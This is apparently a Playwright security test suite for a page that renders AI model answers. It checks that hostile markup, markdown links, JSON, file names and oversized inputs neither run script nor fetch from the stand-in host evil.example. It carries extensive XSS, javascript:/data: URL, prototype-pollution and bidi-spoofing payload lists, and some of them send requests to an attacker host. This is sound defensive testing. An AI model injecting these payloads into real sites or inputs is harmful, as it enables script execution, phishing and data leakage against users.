// What a model, a file name or a label may say to this page, and what must not come of it: no script runs, no element or
// attribute appears that the page does not make itself, and nothing is asked for.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { test } from "node:test";

import { open, site, withBrowser } from "../support/helpers.mjs";

withBrowser();

const SAMPLE = await readFile(new URL("../../../www/public-sample/sample-screen.png", import.meta.url));

/** Whatever runs says so here; whatever is fetched goes to this host, which does not exist. */
const RUN = "globalThis.pwned=1";
const HOST = "https://evil.example";

const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${HOST}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `</p></div></article><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src="${HOST}/pixel.png">`,
  `<img srcset="${HOST}/a.png 1x, ${HOST}/b.png 2x">`,
  `<picture><source srcset="${HOST}/a.png"><img></picture>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">click</math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<body onload=${RUN}>`,
  `<body background="${HOST}/bg.png">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg=="></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<video><source onerror="${RUN}"></video>`,
  `<video poster="${HOST}/p.png" src="${HOST}/v.mp4" autoplay></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<button formaction="javascript:${RUN}" form=ask>x</button>`,
  `<form action="${HOST}" id=ask><input name=question value=x><button>x</button></form>`,
  `<form id=document><input name=getElementById></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="${HOST}" ping="${HOST}/ping" target=_top>click</a>`,
  `<base href="${HOST}/">`,
  `<link rel=stylesheet href="${HOST}/x.css">`,
  `<link rel=prefetch href="${HOST}/x">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<style>*{background:url(${HOST}/css.png)}</style>`,
  `<style>@import '${HOST}/x.css';</style>`,
  `<div style="background:url(${HOST}/s.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99">covers the page</div>`,
  `<p class="answer" id="question" data-bbox="0 0 10 10" onclick=${RUN}>x</p>`,
  `<x onclick=${RUN} tabindex=1 id=x>#x</x><script>location.hash='x'</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  `<!DOCTYPE html><html><body><h1 data-bbox="1 2 30 40"><img src=x onerror=${RUN}>Title</h1><script>${RUN}</script></body></html>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
];

const LINKS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](java\nscript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x]( javascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](jav&#x09;ascript:${RUN})`,
  `[x](javascript://example.com/%0a${RUN})`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[x](blob:${HOST}/1)`,
  `[x](file:///etc/passwd)`,
  `[x](about:blank)`,
  `[x](//evil.example)`,
  `[x](/models)`,
  `[x](https:/\\evil.example)`,
  `[x](https://user:pass@evil.example/)`,
  `[https://bank.example](https://evil.example/login)`,
  `[x](https://evil.example/" onclick="${RUN})`,
  `[x](https://evil.example/'onmouseover='${RUN})`,
  `[x](https://evil.example "title\\" onmouseover=\\"${RUN}")`,
  `[x](<javascript:${RUN}>)`,
  `[x][1]\n\n[1]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<https://evil.example/"onclick=${RUN}>`,
  `[<img src=x onerror=${RUN}>](https://evil.example)`,
  `[a[b](javascript:${RUN})](https://evil.example)`,
  `![x](${HOST}/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
  `[![x](${HOST}/p.png)](javascript:${RUN})`,
  `![x][1]\n\n[1]: ${HOST}/p.png`,
  `https://evil.example/\u202egnp.exe`,
  `[\u202emoc.knab](https://evil.example)`,
  `**[x](javascript:${RUN})**`,
  `| [x](javascript:${RUN}) | <img src=x onerror=${RUN}> |\n|--|--|\n| <script>${RUN}</script> | ![](${HOST}/a.png) |`,
  `> <img src=x onerror=${RUN}>\n> > <script>${RUN}</script>`,
  `- <img src=x onerror=${RUN}>\n  - [x](javascript:${RUN})`,
  `# <script>${RUN}</script>`,
  `\`\`\`<script>${RUN}</script>\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`\`\`html" onmouseover="${RUN}\nx\n\`\`\``,
  `~~~\n</code></pre><script>${RUN}</script>\n~~~`,
  `\`<script>${RUN}</script>\``,
  `<details>\n\n**bold** <img src=x onerror=${RUN}>\n\n</details>`,
];

const DATA = [
  `{"__proto__": {"pwned": 1, "kind": "box"}, "constructor": {"prototype": {"pwned": 1}}}`,
  `[{"__proto__": {"toString": 1}, "a": "<img src=x onerror=${RUN}>"}, {"__proto__": {"pwned": 1}, "a": "<script>${RUN}</script>"}]`,
  `{"<img src=x onerror=${RUN}>": "<svg onload=${RUN}>", "hasOwnProperty": 1, "toString": "x", "length": -1}`,
  `[{"bbox_2d": [10, 10, 100, 100], "label": "<img src=x onerror=${RUN}>"}, {"bbox_2d": [0, 0, 1e9, -1e9], "label": "\\u202e\\u0000<script>${RUN}</script>"}]`,
  `[{"bbox_2d": [10, 10, 100, 100], "label": "__proto__"}, {"bbox_2d": [5, 5, 50, 50], "label": "constructor"}]`,
  `{"deep": ${"[".repeat(500)}${"]".repeat(500)}}`,
];

const HUGE = {
  stars: "*".repeat(60_000),
  "stars and letters": "*a _b ".repeat(10_000),
  brackets: "[".repeat(60_000),
  "half a link": "[a](".repeat(15_000),
  ticks: Array.from({ length: 300 }, (_, i) => "`".repeat(i + 1)).join(" "),
  quotes: `${">".repeat(20_000)} x`,
  lists: Array.from({ length: 1000 }, (_, i) => `${" ".repeat(i)}- x`).join("\n"),
  table: `${"|a".repeat(2000)}|\n${"|-".repeat(2000)}|\n${"|b".repeat(2000)}|`,
  "one word": "x".repeat(100_000),
  lines: "x\n\n".repeat(20_000),
  dashes: `${"- ".repeat(20_000)}x`,
  backslashes: "\\".repeat(60_000),
  addresses: "https://a.example/".repeat(3000),
};

/** All that may stand in an answer, with the attributes that each may have. */
const ALLOWED = {
  "*": ["class", "hidden"],
  a: ["href", "rel", "target"],
  article: ["aria-busy"],
  button: ["type", "aria-label", "data-number", "title"],
  details: ["open"],
  div: ["tabindex", "role", "aria-label"],
  img: ["src", "alt"],
  ol: ["start"],
  pre: ["tabindex"],
  svg: ["aria-hidden"],
  use: ["href"],
  th: ["scope"],
  ul: ["aria-label"],
};
const PLAIN = "blockquote br code dd del dl dt em h3 h4 h5 h6 hr li p span strong summary table tbody td thead tr".split(" ");

/** Opens the page with an eye on everything that could go wrong. */
async function watched(t) {
  const asked = [];
  const page = await open(t, {
    path: "",
    engine: "fake",
    viewport: { width: 1440, height: 800 },
    servers: ["https://evil.example"],
    setup: async (page) => {
      page.on("request", (request) => asked.push(request.url()));
      page.on("dialog", (dialog) => asked.push(`a dialog: ${dialog.message()}`) && dialog.dismiss());
      page.on("popup", () => asked.push("another page"));
      page.on("framenavigated", (frame) => asked.push(`went to ${frame.url()}`));
      await page.route("https://evil.example/**", (route) => route.abort());
      await page.addInitScript(() => {
        globalThis.violations = [];
        document.addEventListener("securitypolicyviolation", (event) => globalThis.violations.push(`${event.violatedDirective}: ${event.blockedURI}`));
      });
    },
  });
  await page.getByText("Ready. Loaded").waitFor();
  return { page, asked };
}

/** Asks, and waits for the end of the answer: in one call to the page, because there are hundreds of them. */
const say = (page, text) =>
  page.evaluate(async (text) => {
    const log = document.querySelector("#log");
    const turn = log.querySelectorAll("article").length + 1;
    document.querySelector("#question").value = text;
    document.querySelector("#send").click();
    const what = { subtree: true, childList: true, attributes: true };
    while (!log.querySelector(`article:nth-child(${turn})[aria-busy=false]`)) {
      await new Promise((resolve) => new MutationObserver((_, observer) => (observer.disconnect(), resolve())).observe(log, what));
    }
  }, text);

/** What should not be there, if anything. */
const found = (page) =>
  page.evaluate(
    ({ allowed, plain, own }) => {
      const faults = [...globalThis.violations];
      if ("pwned" in globalThis || "pwned" in {}) faults.push("a script ran, or a prototype was changed");
      if ("kind" in {} || {}.toString !== Object.prototype.toString) faults.push("a prototype was changed");
      for (const element of document.querySelectorAll("#log *, #boxes *, #attached *")) {
        const name = element.localName;
        const attributes = [...allowed["*"], ...(allowed[name] ?? [])];
        const inBoxes = element.closest("#boxes");
        if (!allowed[name] && !plain.includes(name) && !(inBoxes && name === "polygon")) faults.push(`<${name}>`);
        for (const { name: attribute, value } of element.attributes) {
          // Places of marks are set by number, through the style object.
          const mark = inBoxes && ["style", "viewBox", "preserveAspectRatio", "points"].includes(attribute);
          if (!attributes.includes(attribute) && !mark) faults.push(`${name} ${attribute}="${value}"`);
          if (mark && /[^-\w\s.,:;%+]/.test(value)) faults.push(`${attribute} ${value}`);
        }
        if (name === "a") {
          const url = new URL(element.href);
          if (!/^https?:$/.test(url.protocol)) faults.push(`a link to ${element.href}`);
          if (element.rel !== "noopener noreferrer") faults.push(`rel ${element.rel}`);
          if (!element.textContent.includes(url.host)) faults.push(`a link that hides ${url.host}`);
        }
        if (name === "img" && !element.src.startsWith("blob:")) faults.push(`a picture from ${element.src}`);
        if (name === "use" && !element.getAttribute("href").startsWith("#i-")) faults.push(`use ${element.href.baseVal}`);
      }
      if (/[\u202a-\u202e\u2066-\u2069\u0000]/.test(document.getElementById("log").querySelector("article:last-child .answer")?.textContent ?? "")) faults.push("characters that turn text around");
      if (document.querySelectorAll("script").length !== 1) faults.push("another script");
      if (document.baseURI !== own) faults.push(`base ${document.baseURI}`);
      return faults;
    },
    { allowed: ALLOWED, plain: PLAIN, own: site() },
  );

/** Asked for after the page was there: its own worker, wasm and pictures are; anything else is not. */
const leaks = (asked) => asked.filter((url) => !url.startsWith(site()) && !url.startsWith("blob:") && url !== `went to ${site()}`);

for (const [name, corpus] of Object.entries({ markup: MARKUP, "links and Markdown": LINKS, "data and labels": DATA })) {
  test(`nothing comes of ${corpus.length} hostile answers: ${name}`, async (t) => {
    const { page, asked } = await watched(t);
    await page.locator("#sample").click();
    await page.locator("#image").waitFor();
    for (const answer of corpus) {
      for (const order of ["echo", "think"]) {
        await say(page, `${order}:${answer}`);
        assert.deepEqual(await found(page), [], `${order}: ${answer}`);
      }
      // Everything that can be pressed in it is pressed, except links.
      await page.locator("#log article").nth(-2).locator("summary, .finding").evaluateAll((all) => all.forEach((one) => one.click()));
    }
    assert.deepEqual(await found(page), []);
    assert.deepEqual(leaks(asked), []);
  });
}

test("hostile values are shown as values, and hostile schemas are only sent", async (t) => {
  const { page, asked } = await watched(t);
  await page.locator("#panel-toggle").click();
  await page.getByLabel("The answer is").selectOption("json");
  for (const answer of DATA) {
    await say(page, `echo:${answer}`);
    assert.deepEqual(await found(page), [], answer.slice(0, 200));
    assert.equal(await page.locator("#log article").last().locator(".parsed").count(), 1, answer.slice(0, 200));
  }
  assert.deepEqual(leaks(asked), []);
});

test("names of files and of models are text", async (t) => {
  const { page, asked } = await watched(t);
  const names = [`<img src=x onerror=${RUN}>.png`, `"><svg onload=${RUN}>.png`, "\u202egnp.exe.png", "__proto__", "a' onclick='x.png"];
  await page.locator("#file").setInputFiles(names.map((name) => ({ name, mimeType: "image/png", buffer: SAMPLE })));
  await page.waitForFunction((count) => document.querySelectorAll("#attached li").length === count, names.length);
  assert.deepEqual(await found(page), []);
  await say(page, "echo:fine");
  assert.deepEqual(await found(page), []);
  assert.ok(!/\u202e/.test(await page.evaluate(() => document.body.outerHTML)));

  for (const model of [`javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `<img src=x onerror=${RUN}>/x`, `https://evil.example/<svg onload=${RUN}>/`]) {
    await page.goto(`${site()}?${new URLSearchParams({ model, weights: `<b>=${RUN}` })}`);
    await page.locator("#notices .notice").waitFor();
    assert.equal(await page.locator("#notices img, #notices svg, #notices b, #notices script").count(), 0, model);
    assert.equal(await page.evaluate(() => "pwned" in globalThis), false);
  }
  assert.deepEqual(asked.filter((url) => url.startsWith("https://evil.example")), [], "a link to the page asks for nothing");
});

for (const [name, text] of Object.entries(HUGE)) {
  test(`an answer that is too much: ${name}`, async (t) => {
    const { page } = await watched(t);
    await say(page, `echo:${text}`);
    assert.deepEqual(await found(page), []);
    // The page still answers.
    await say(page, "echo:after");
    assert.equal(await page.locator("#log article").last().locator(".answer").textContent(), "after");
  });
}
